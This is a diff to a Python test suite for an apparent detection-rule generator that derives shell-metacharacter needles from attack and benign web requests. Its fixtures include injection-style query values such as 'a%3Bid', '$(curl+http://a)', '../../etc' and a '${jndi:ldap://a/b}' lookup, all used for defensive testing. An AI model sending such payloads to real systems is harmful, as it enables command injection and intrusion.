@@ -31,12 +31,21 @@ def test_what_only_the_attack_carried_is_looked_for_raw_and_encoded():
 
 
 def test_the_next_attack_may_use_another_character_that_shells_act_on():
-    [candidate] = from_requests(WEB, [request("/x", "q=a%3Bid")], [request("/x", "q=hats+(red)")])
+    [candidate] = from_requests(WEB, [request("/x", "q=a%3Bid")], [request("/x", "q=hats+for+$1")])
     needles = set(candidate.detection["query"]["cs-uri-query|contains"])
-    assert {";", "%3B", "|", "%7C", "`", "%60", "$", "%24", "%26", "%0A"} <= needles
-    assert not {"(", ")", "%28", "%29", "&"} & needles  # seen in ordinary ones; it separates parameters
+    assert needles == {";", "%3B", "|", "%7C", "`", "%60", "%0A"}  # $ was seen in ordinary ones
+
+
+def test_what_was_only_written_with_such_characters_is_not_looked_for():
+    [candidate] = from_requests(WEB, [request("/x", "q=$(curl+http://a)")], [])
+    needles = set(candidate.detection["query"]["cs-uri-query|contains"])
+    assert {"$", "(", ")"} <= needles
+    assert not {"/", ":", "%2F", "%3A", "%20", "&", "%26", "<"} & needles  # people write & and < as well
     [candidate] = from_requests(WEB, [request("/x", "q=../../etc")], [])
     assert candidate.detection["query"] == {"cs-uri-query|contains": ["/", "%2F"]}
+    [candidate] = from_requests(WEB, [request("/x", "q=${jndi:ldap://a/b}")], [])
+    needles = set(candidate.detection["query"]["cs-uri-query|contains"])
+    assert needles == {"$", "%24", "{", "%7B", "}", "%7D"}  # no shell was meant
 
 
 def test_no_candidate_where_the_attack_carried_nothing_of_its_own():
@@ -44,8 +53,10 @@ def test_no_candidate_where_the_attack_carried_nothing_of_its_own():
 
 
 def test_separators_are_looked_for_in_their_encoded_form_only():
-    [candidate] = from_requests(WEB, [request("/x", "q=a%26b%20c")], [request("/x", "q=;|`$(){}<>%0A")])
-    assert candidate.detection["query"] == {"cs-uri-query|contains": ["%20", "%26"]}
+    [candidate] = from_requests(WEB, [request("/x", "q=a%26b")], [request("/x", "q=;|`$(){}<>%0A")])
+    assert candidate.detection["query"] == {"cs-uri-query|contains": ["%26"]}
+    [candidate] = from_requests(WEB, [request("/x", "q=a%3Db%20c")], [])
+    assert candidate.detection["query"] == {"cs-uri-query|contains": ["%20", "%3D"]}
 
 
 NAMED = (
